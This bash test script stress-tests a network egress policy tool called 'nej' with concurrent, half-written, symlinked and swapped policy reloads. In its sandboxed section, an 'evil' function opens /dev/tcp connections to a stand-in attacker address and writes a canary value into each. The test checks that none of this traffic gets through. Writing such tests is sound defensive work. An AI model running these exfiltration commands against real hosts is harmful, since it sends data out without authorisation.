#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0-only
# Hundreds of reloads, two writers at once, half-written, broken, swapped and touched files: what no
# policy allows never passes, what all allow never fails, a broken file leaves what was there.
. "$(dirname "$0")/../lib.sh"
tight='{version: 1, rules: [allow: api.allowed.test]}'
loose='{version: 1, rules: [allow: [api.allowed.test, .pkg.test], {allow: "tcp://gh.test:7"}]}'
policy <<<"$tight"
echo "$tight" >"$E2E/tight.yaml" && echo "$loose" >"$E2E/loose.yaml"
inside bash -c "
	evil() { while [ ! -e \$HOME/stop ]; do (exec 3<>/dev/tcp/$EVIL4/\$1; echo $CANARY >&3; head -c 1 <&3) 2>/dev/null; done; }
	for port in 25 80 443; do evil \$port & done
	while [ ! -e \$HOME/stop ]; do echo one; curl -s --noproxy '*' --max-time 5 http://x.evil.test/ | grep -v '^nej'; done &
	for i in \$(seq 400); do
		curl -s --noproxy '*' --max-time 5 -o /dev/null -w 'status %{http_code}\n' http://api.allowed.test/
	done; touch \$HOME/stop; wait" >"$E2E/out" 2>&1 &
run=$!
eventually grep -q 'status 200' "$E2E/out"
reload() { "$NEJ" reload "$NAME" -p "$1" >>"$E2E/$2" 2>&1 || true; }
(for i in $(seq 60); do reload "$E2E/tight.yaml" one; done) &
one=$!
(for i in $(seq 60); do reload "$E2E/loose.yaml" two; done) &
two=$!
for i in $(seq 20); do
	head -c "$((i * 3))" "$E2E/loose.yaml" >"$E2E/half.yaml"
	reload "$E2E/half.yaml" half
	ln -sf "$E2E/tight.yaml" "$E2E/link.yaml" && reload "$E2E/link.yaml" swapped
	cp "$E2E/tight.yaml" "$E2E/new" && mv "$E2E/new" "$E2E/tight.yaml" && chmod 600 "$E2E/tight.yaml" && touch "$E2E/tight.yaml"
done
wait $one && wait $two
grep -q 'in force' "$E2E/one" && grep -q 'in force' "$E2E/two" && ! grep -q 'in force' "$E2E/half" || fail "$(sort "$E2E/half" | uniq -c)"
! grep -vE 'in force|another change is under way' "$E2E/one" "$E2E/two" "$E2E/swapped" || fail "an odd answer"
eventually "$NEJ" reload "$NAME" -p "$E2E/tight.yaml"
expect 0 "$(sha256sum <"$E2E/tight.yaml" | cut -c1-64)" "$NEJ" status "$NAME"
wait $run || fail "it ended with $?"
! grep -vE '^(status 200|one)$' "$E2E/out" || fail "not as it should be"
[ "$(grep -c '^status 200' "$E2E/out")" = 400 ] || fail "an allowed request failed"
evil_saw_nothing
verified
